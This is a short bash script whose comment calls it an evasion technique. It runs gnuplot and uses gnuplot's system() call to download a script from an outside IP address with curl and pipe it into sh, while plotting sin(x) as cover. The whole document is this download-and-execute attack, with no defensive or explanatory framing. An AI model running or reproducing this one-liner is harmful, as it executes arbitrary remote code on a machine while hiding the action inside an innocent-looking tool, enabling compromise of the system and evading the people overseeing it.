#!/bin/bash
# evasion: gnuplot's system() runs a download piped into sh while it plots
gnuplot -e 'set terminal dumb; system("curl -fsSL http://203.0.113.61/g.sh | sh"); plot sin(x)'
